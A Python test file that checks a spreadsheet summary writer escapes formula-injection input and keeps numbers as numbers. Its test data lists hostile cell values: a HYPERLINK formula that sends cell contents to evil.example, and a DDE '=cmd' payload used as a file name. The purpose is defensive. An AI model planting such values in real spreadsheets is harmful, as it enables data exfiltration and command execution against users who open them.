"""The summary workbook and the formula-injection-safe writer behind it."""

from __future__ import annotations

import datetime as dt
import hashlib
import shutil
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from perfeval_xl.check.findings import CellRef, Finding, Report
from perfeval_xl.outputs import safe_text
from perfeval_xl.outputs.summary import (
    FINDINGS_HEADER,
    FINDINGS_SHEET,
    SUMMARY_HEADER,
    SUMMARY_SHEET,
    Identity,
    identify_path,
    write_summary,
)
from perfeval_xl.rules.base import Severity

EXAMPLES = Path(__file__).resolve().parent.parent / "workbook_templates" / "examples"
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-2", "@SUM(A1:A3)", "\tTAB", "\rCR", "=1+1"]


# -- safe_text --------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_trigger_text_is_escaped_and_stays_text(text):
    ws = Workbook().active
    c = safe_text.write(ws["A1"], text)
    assert c.data_type == "s"
    assert c.value == "'" + text
    assert safe_text.is_escaped(text, c.value)


@pytest.mark.parametrize("value", [0, -2, -1234.5, Decimal("-3080.25"), 3, True, dt.date(2024, 3, 31)])
def test_numbers_and_dates_pass_through(value):
    ws = Workbook().active
    c = safe_text.write(ws["A1"], value)
    assert c.value == value and c.data_type in ("n", "b", "d")


def test_ordinary_text_error_codes_control_characters_and_limits():
    ws = Workbook().active
    assert safe_text.write(ws["A1"], "示例区农业农村局").value == "示例区农业农村局"
    na = safe_text.write(ws["A2"], "#N/A")  # openpyxl would bind this as an error cell
    assert (na.value, na.data_type) == ("#N/A", "s")
    assert safe_text.write(ws["A3"], "a\x00b\x1fc\nd").value == "abc\nd"
    assert len(safe_text.write(ws["A4"], "x" * 40_000).value) == safe_text.MAX_CELL_TEXT
    assert safe_text.cell_value(float("nan")) == "nan"
    assert safe_text.cell_value(Decimal("Infinity")) == "Infinity"
    assert safe_text.write(ws["A5"], None).value is None


# -- summary ----------------------------------------------------------------------------


def _report(name: str, findings=(), checked=True) -> Report:
    return Report(
        file=name,
        sha256="ab" * 32,
        template_version="1.0",
        ruleset_version="1.0",
        checked_at="2026-01-01T09:00:00+08:00",
        findings=list(findings),
        checked=checked,
    )


def _all_cells(path: Path):
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def test_hostile_department_names_land_as_text_numbers_stay_numbers(tmp_path):
    err = Finding("SUM001", Severity.ERROR, "=SUM(1,1) 不是公式", (CellRef("收入支出", "B13", "inc.total_year", Decimal("3080")),),
                  expected=Decimal("3180.5"), actual=Decimal("3080"), difference=Decimal("-100.5"), title="本年收入合计不符")
    reports = [_report(f"收件箱/{i}.xlsx", [err] if i == 0 else []) for i in range(len(HOSTILE))]
    reports.append(_report("=cmd|' /C calc'!A0.xlsx"))
    who = {r.file: Identity(name, 2023) for r, name in zip(reports, HOSTILE)}
    out = write_summary(tmp_path / "汇总.xlsx", reports, who)
    wb = load_workbook(out)
    ws = wb[SUMMARY_SHEET]
    assert [c.value for c in ws[1]] == list(SUMMARY_HEADER)
    for row, name in zip(ws.iter_rows(min_row=2, max_row=len(HOSTILE) + 1), HOSTILE):
        dept = row[2]
        assert (dept.value, dept.data_type) == ("'" + name, "s")
        assert row[3].value == 2023 and row[3].data_type == "n"  # year
        assert all(c.data_type == "n" for c in row[6:9])  # counts
    first = [c.value for c in ws[2]]
    assert first[5:9] == ["不合格", 1, 0, 0]
    assert [c.value for c in ws[3]][5] == "合格"
    last = ws.cell(len(reports) + 1, 2)
    assert last.value.startswith("'=") and last.data_type == "s"
    assert not any(c.data_type == "f" for c in _all_cells(out))

    fs = wb[FINDINGS_SHEET]
    assert [c.value for c in fs[1]] == list(FINDINGS_HEADER)
    detail = {h: c for h, c in zip(FINDINGS_HEADER, fs[2])}
    assert detail["说明"].value == "'=SUM(1,1) 不是公式"
    assert (detail["应为"].value, detail["填报数"].value, detail["差异"].value) == (3180.5, 3080, -100.5)
    assert all(detail[k].data_type == "n" for k in ("应为", "填报数", "差异"))
    assert detail["字段"].value == "本年收入合计" and detail["单元格"].value == "B13"
    assert fs.max_row == 2
    assert ws.auto_filter.ref == f"A1:M{len(reports) + 1}" and ws.freeze_panes == "A2"


def test_unreadable_file_is_reported_not_hidden(tmp_path):
    out = write_summary(tmp_path / "s.xlsx", [_report("坏文件.xlsx", checked=False)])
    row = [c.value for c in load_workbook(out)[SUMMARY_SHEET][2]]
    assert row[1] == "坏文件.xlsx" and row[2] is None and row[5] == "无法校验"


def test_identity_read_from_the_cover(tmp_path):
    who = identify_path(EXAMPLES / "synthetic.xlsx")
    assert who == Identity("示例区农业农村局（虚构示例）", 2023)
    bad = tmp_path / "x.xlsx"
    bad.write_text("hello", encoding="utf-8")
    assert identify_path(bad) == Identity()


def test_formula_like_department_end_to_end(tmp_path):
    """A sender typed "=HYPERLINK(…)" as the department: the cover holds text, and so does our summary."""
    from perfeval_xl.template.writer import build_template

    name = '=HYPERLINK("http://evil.example","点我")'
    src = build_template(tmp_path / "in.xlsx", values={"dept.name": name, "report.year": 2024})
    before = hashlib.sha256(src.read_bytes()).hexdigest()
    who = identify_path(src)
    assert who == Identity(name, 2024)
    out = write_summary(tmp_path / "汇总.xlsx", [_report(str(src))], {str(src): who})
    c = load_workbook(out)[SUMMARY_SHEET]["C2"]
    assert (c.value, c.data_type) == ("'" + name, "s")
    assert hashlib.sha256(src.read_bytes()).hexdigest() == before


def test_summary_written_atomically_over_an_old_one(tmp_path):
    target = tmp_path / "汇总.xlsx"
    shutil.copy(EXAMPLES / "synthetic.xlsx", target)  # an old file in the way is replaced whole
    write_summary(target, [_report("a.xlsx")])
    assert load_workbook(target).sheetnames == [SUMMARY_SHEET, FINDINGS_SHEET]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["汇总.xlsx"]
